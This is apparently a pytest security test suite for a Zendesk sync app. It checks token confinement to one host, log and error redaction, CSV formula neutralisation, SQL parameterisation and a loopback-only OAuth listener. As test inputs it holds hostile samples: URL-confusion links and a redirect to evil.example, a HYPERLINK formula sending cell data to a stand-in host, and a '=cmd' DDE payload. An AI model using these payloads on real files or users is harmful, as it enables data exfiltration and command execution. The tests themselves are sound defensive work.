"""Security promises: the token stays home, CSV is formula-safe, SQL is parameterised,
the OAuth listener is loopback-only and one-shot, logs redact credentials."""

from __future__ import annotations

import ast
import base64
import csv
import logging
import socket
import threading
import urllib.error
import urllib.request
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evalsync_gui.core.errors import EvalsyncError, UnsafeUrlError, UsageError
from evalsync_gui.core.zendesk.http import ApiTokenAuth, BearerAuth, RetryPolicy, ZendeskHttp

from .helpers import assert_one_line

BASE = "https://abc-energy.zendesk.com"
HOST = "abc-energy.zendesk.com"
TOKEN = "tok-SECRET-1234567890abcdef"
EMAIL = "admin@abc-energy.com"
B64 = base64.b64encode(f"{EMAIL}/token:{TOKEN}".encode()).decode()
PKG = Path(__file__).resolve().parents[2] / "evalsync_gui"


def _recording_client(first_page: dict):
    """A client whose transport records every host a request (and so a token) went to."""
    hosts: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        hosts.append(request.url.host)
        if request.url.path == "/api/v2/users.json":
            return httpx.Response(200, json=first_page)
        return httpx.Response(200, json={"users": [], "meta": {"has_more": False}, "links": {"next": None}})

    c = ZendeskHttp(BASE, ApiTokenAuth(EMAIL, TOKEN), transport=httpx.MockTransport(handler), sleep=lambda s: None,
                    retry=RetryPolicy(max_attempts=2))
    return c, hosts


EVIL_LINKS = [
    "https://evil.example/api/v2/users.json?page[after]=x",
    "http://abc-energy.zendesk.com/api/v2/users.json",  # downgrade to plain http
    "https://abc-energy.zendesk.com:8443/api/v2/users.json",  # other port
    "https://abc-energy.zendesk.com.evil.example/api/v2/users.json",
    "https://abc-energy.zendesk.com@evil.example/api/v2/users.json",
    "https://evil.example\\@abc-energy.zendesk.com/api/v2/users.json",
    "https://evil.example#@abc-energy.zendesk.com/api/v2/users.json",
    "https://evil.example?@abc-energy.zendesk.com/api/v2/users.json",
    "//evil.example/api/v2/users.json",
    "https://other.zendesk.com/api/v2/users.json",
    "https://ABC-ENERGY.zendesk.com.:443@evil.example/",
    "https://xn--abc-energy-.zendesk.com/",
    "ftp://abc-energy.zendesk.com/api/v2/users.json",
    "https://[::1]/api/v2/users.json",
    "https://abc-energy.zendesk.com%2F@evil.example/",
]


@pytest.mark.parametrize("key", ["links.next", "after_url", "next_page"])
@pytest.mark.parametrize("link", EVIL_LINKS)
def test_foreign_pagination_links_are_refused_and_never_sent(key, link):
    page = {"users": [], "meta": {"has_more": True}}
    if key == "links.next":
        page["links"] = {"next": link}
    else:
        page[key] = link
    c, hosts = _recording_client(page)
    body = c.get("/api/v2/users.json")
    nxt = body["links"]["next"] if key == "links.next" else body[key]
    try:
        c.get(nxt)
    except UnsafeUrlError as exc:
        assert_one_line(exc, secrets=(TOKEN, B64))
    except EvalsyncError as exc:  # e.g. a relative "//host" treated as a path: fine if it stayed home
        assert_one_line(exc, secrets=(TOKEN, B64))
    assert set(hosts) == {HOST}, f"a request went to {set(hosts) - {HOST}}"


_host_chars = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-.@:%#?/\\[]_~", max_size=40)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(scheme=st.sampled_from(["https", "http", "HTTPS", "ftp", ""]), authority=_host_chars,
       path=st.text(max_size=30))
def test_fuzzed_links_never_carry_the_token_to_another_host(scheme, authority, path):
    """Any absolute link: either it is for this origin exactly, or no request leaves at all."""
    c, hosts = _recording_client({"users": []})
    url = f"{scheme}://{authority}/{path}"
    try:
        c.get(url)
    except EvalsyncError as exc:
        assert_one_line(exc, secrets=(TOKEN, B64))
    assert set(hosts) <= {HOST}, f"{url!r} sent a request to {hosts}"


def test_redirect_to_another_host_is_not_followed():
    hosts: list[str] = []

    def handler(request):
        hosts.append(request.url.host)
        return httpx.Response(302, headers={"Location": "https://evil.example/steal"})

    c = ZendeskHttp(BASE, ApiTokenAuth(EMAIL, TOKEN), transport=httpx.MockTransport(handler), sleep=lambda s: None)
    with pytest.raises(EvalsyncError) as info:
        c.get("/api/v2/users.json")
    assert_one_line(info.value, secrets=(TOKEN, B64))
    assert hosts == [HOST]


ERROR_RESPONSES = [
    httpx.Response(401, json={"error": "invalid_token", "error_description": f"token {TOKEN} bad"}),
    # a proxy or error page that echoes the request's own Authorization header back
    lambda r: httpx.Response(403, json={"error": "Forbidden", "description": r.headers["Authorization"]}),
    lambda r: httpx.Response(400, json={"error": "bad", "description": r.headers["Authorization"]}),
    httpx.Response(404, text="nope"),
    httpx.Response(422, json={"error": "RecordInvalid", "description": "bad"}),
    httpx.Response(429, headers={"Retry-After": "10000"}),
    httpx.Response(500, text="boom"),
    httpx.Response(200, text="<html>login</html>", headers={"content-type": "text/html"}),
    httpx.Response(200, text='{"users": ['),
]


@pytest.mark.parametrize("response", ERROR_RESPONSES, ids=lambda r: str(getattr(r, "status_code", "echo")))
@pytest.mark.parametrize("auth", ["api", "bearer"])
def test_token_never_in_exception_text(response, auth):
    creds = ApiTokenAuth(EMAIL, TOKEN) if auth == "api" else BearerAuth(TOKEN)
    c = ZendeskHttp(BASE, creds, transport=httpx.MockTransport(response if callable(response) else lambda r: response), sleep=lambda s: None,
                    retry=RetryPolicy(max_attempts=2, rate_limit_budget=5))
    with pytest.raises(EvalsyncError) as info:
        c.get(f"/api/v2/users.json?access_token={TOKEN}")
    assert_one_line(info.value, secrets=(TOKEN, B64))
    assert TOKEN not in repr(creds)


def test_logs_redact_authorization_headers_and_tokens(tmp_path):
    """Even at DEBUG with httpx/httpcore tracing on, the log file holds no credential."""
    from evalsync_gui.core.logsetup import setup_logging, teardown_logging

    path = setup_logging(logging.DEBUG, tmp_path / "logs")
    try:
        logging.getLogger("httpcore").setLevel(logging.DEBUG)
        log = logging.getLogger("evalsync.test")
        log.debug("headers %s", {"Authorization": f"Basic {B64}"})
        log.info("Authorization: Bearer %s", TOKEN)
        log.info("url https://x/y?access_token=%s&a=1", TOKEN)
        log.warning('body {"refresh_token": "%s"}', TOKEN)
        try:
            raise ValueError(f"Bearer {TOKEN}")
        except ValueError:
            log.exception("failed")
        c = ZendeskHttp(BASE, ApiTokenAuth(EMAIL, TOKEN),
                        transport=httpx.MockTransport(lambda r: httpx.Response(500)), sleep=lambda s: None,
                        retry=RetryPolicy(max_attempts=2))
        with pytest.raises(EvalsyncError):
            c.get("/api/v2/users.json")
    finally:
        teardown_logging()
    text = path.read_text()
    assert "failed" in text and "[redacted]" in text
    assert TOKEN not in text and B64 not in text


# -- CSV ---------------------------------------------------------------------------------

@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formulas(tmp_path, start):
    from evalsync_gui.core.csvsafe import write_csv

    payload = f'{start}HYPERLINK("http://evil/?"&A1,"x")'
    out = tmp_path / "x.csv"
    write_csv(out, ["name"], [[payload]])
    with open(out, encoding="utf-8-sig", newline="") as fh:
        cell = list(csv.reader(fh))[1][0]
    assert cell == "'" + payload


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_csv_export_any_text_is_never_a_formula(tmp_path_factory, cells):
    from evalsync_gui.core.csvsafe import write_csv

    out = tmp_path_factory.mktemp("csv") / "x.csv"
    write_csv(out, ["a"] * len(cells), [cells])
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_users_export_through_the_directory_is_formula_safe(ctx, tmp_path):
    from evalsync_gui.core import directory

    with ctx.db.transaction() as conn:
        conn.execute("INSERT INTO users (name, email, status, source) VALUES (?, ?, 'active', 'manual')",
                     ("=cmd|' /C calc'!A0", "x@ex.com"))
    out = tmp_path / "users.csv"
    directory.export_csv(ctx.db, out)
    assert "'=cmd" in out.read_text(encoding="utf-8-sig")


def test_csv_import_refuses_oversized_file_and_never_half_imports(ctx, tmp_path):
    from evalsync_gui.core import directory
    from evalsync_gui.core.csvsafe import read_csv_limited

    big = tmp_path / "big.csv"
    big.write_text("name,email\n" + "".join(f"U{i},u{i}@ex.com\n" for i in range(2000)))
    with pytest.raises(UsageError) as info:
        read_csv_limited(big, max_bytes=1000)
    assert "limit" in assert_one_line(info.value)
    with pytest.raises(UsageError) as info:
        read_csv_limited(big, max_rows=100)
    assert "rows" in assert_one_line(info.value)

    bad = tmp_path / "bad.csv"
    bad.write_text("name,email\nGood,good@ex.com\nAlso,also@ex.com\nBroken,not-an-email\n")
    before = ctx.db.scalar("SELECT COUNT(*) FROM users")
    with pytest.raises(UsageError) as info:
        directory.import_csv(ctx.db, ctx.settings, bad)
    assert "nothing was imported" in assert_one_line(info.value)
    assert ctx.db.scalar("SELECT COUNT(*) FROM users") == before


# -- SQL ---------------------------------------------------------------------------------

# (file, SQL prefix) pairs where an f-string builds SQL only from code constants: PRAGMAs
# cannot take bound parameters, and these splice integers or names from literal tuples.
SQL_ALLOW = {
    ("core/store/migrations.py", "PRAGMA "),  # PRAGMA user_version = <int>
    ("core/store/db.py", "PRAGMA "),  # PRAGMA busy_timeout = <constant>
    ("core/sync/batch.py", "PRAGMA "),  # cache_size / wal_autocheckpoint / temp_store from a literal tuple
}


def _allowed(rel: str, sql: ast.AST) -> bool:
    head = sql.values[0] if isinstance(sql, ast.JoinedStr) and sql.values else sql
    text = head.value if isinstance(head, ast.Constant) and isinstance(head.value, str) else ""
    return any(rel == f and text.startswith(prefix) for f, prefix in SQL_ALLOW)


def _execute_calls_with_built_sql():
    for path in sorted(PKG.rglob("*.py")):
        rel = path.relative_to(PKG).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("execute", "executemany", "executescript", "query", "scalar")
                    and node.args):
                continue
            sql = node.args[0]
            built = isinstance(sql, ast.JoinedStr) or (
                isinstance(sql, ast.BinOp) and isinstance(sql.op, (ast.Mod, ast.Add))) or (
                isinstance(sql, ast.Call) and isinstance(sql.func, ast.Attribute) and sql.func.attr == "format")
            if built:
                yield rel, node.lineno, sql


def _interpolated_names(sql: ast.AST) -> set[str]:
    spliced = [v.value for v in ast.walk(sql) if isinstance(v, ast.FormattedValue)]
    if isinstance(sql, ast.BinOp):
        spliced.append(sql.right)
    if isinstance(sql, ast.Call):
        spliced.extend(sql.args)
    names: set[str] = set()
    for expr in spliced:
        if "'?'" in ast.unparse(expr):  # a placeholder list: ",".join("?" * len(chunk))
            continue
        # a comprehension's own loop variable over a constant is not a value from outside
        bound = {t.id for g in ast.walk(expr) if isinstance(g, ast.comprehension)
                 for t in ast.walk(g.target) if isinstance(t, ast.Name)}
        names |= {n.id for n in ast.walk(expr) if isinstance(n, ast.Name)} - bound
        names |= {n.attr for n in ast.walk(expr) if isinstance(n, ast.Attribute)}
    return names


def test_sql_is_parameterised_everywhere():
    """No execute() builds SQL from values: f-strings may only splice whitelisted identifiers.

    An f-string is accepted when every name it interpolates is a known-safe builder
    (column/ORDER BY whitelists, UPPER_CASE module constants, placeholder lists ``?,?,?``) -- listed here on purpose,
    so a new one needs a reviewer to add it.
    """
    safe_names = {"version", "BUSY_TIMEOUT_MS", "where", "order_by", "marks", "placeholders", "qmarks",
                  "cols", "columns", "column", "sets", "assignments", "order", "direction", "clause",
                  "table", "sql", "join", "len", "ids", "chunk", "batch", "fields", "limit", "view", "self",
                  "sort", "key", "col", "field", "names", "pages", "n",
                  "source"}  # View.source() returns one of two constant FROM targets
    offenders = []
    for rel, line, src in _execute_calls_with_built_sql():
        if _allowed(rel, src):
            continue
        names = _interpolated_names(src)
        unknown = {n for n in names - safe_names - {"join", "str", "int", "format"} if not n.isupper()}
        if unknown:
            offenders.append(f"{rel}:{line}: {ast.unparse(src)[:100]} (interpolates {sorted(unknown)})")
    assert not offenders, "SQL built from values:\n" + "\n".join(offenders)


# -- OAuth redirect listener --------------------------------------------------------------

def _get(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=3) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code


def test_oauth_listener_loopback_only_one_shot_checks_state_and_path():
    from evalsync_gui.core.auth.listener import RedirectListener

    listener = RedirectListener(0, "expected-state")
    port = listener.port
    assert listener._server.server_address[0] == "127.0.0.1"
    # Not reachable on another interface of this machine (if it has one).
    try:
        other = socket.gethostbyname(socket.gethostname())
    except OSError:
        other = None
    if other and not other.startswith("127."):
        with socket.socket() as s:
            s.settimeout(1)
            assert s.connect_ex((other, port)) != 0
    result: dict = {}
    t = threading.Thread(target=lambda: result.setdefault("code", _safe_wait(listener)), daemon=True)
    t.start()
    base = f"http://127.0.0.1:{port}"
    assert _get(base + "/favicon.ico") == 404  # other paths: 404 and the wait goes on
    assert _get(base + "/callback?code=abc&state=expected-state") == 200
    t.join(5)
    assert result["code"] == "abc"
    with socket.socket() as s:  # served one request, then closed
        s.settimeout(1)
        assert s.connect_ex(("127.0.0.1", port)) != 0


def test_oauth_listener_refuses_wrong_state_and_keeps_waiting():
    from evalsync_gui.core.auth.listener import RedirectListener

    listener = RedirectListener(0, "expected-state")
    result: dict = {}
    t = threading.Thread(target=lambda: result.setdefault("r", _safe_wait(listener)), daemon=True)
    t.start()
    assert _get(f"http://127.0.0.1:{listener.port}/callback?code=abc&state=forged") == 400
    assert t.is_alive()  # a forged answer does not end the sign-in
    assert _get(f"http://127.0.0.1:{listener.port}/callback?code=real&state=expected-state") == 200
    t.join(5)
    assert result["r"] == "real"


def _safe_wait(listener):
    try:
        return listener.wait(timeout=10)
    except EvalsyncError as exc:
        return exc


def test_csv_export_to_an_impossible_name_is_one_line(tmp_path):
    """A file name the OS refuses (too long) must end in UsageError, not a raw OSError."""
    from evalsync_gui.core.csvsafe import write_csv

    with pytest.raises(UsageError) as refused:
        write_csv(tmp_path / ("é" * 300), ["a"], [["b"]])
    assert_one_line(refused.value)
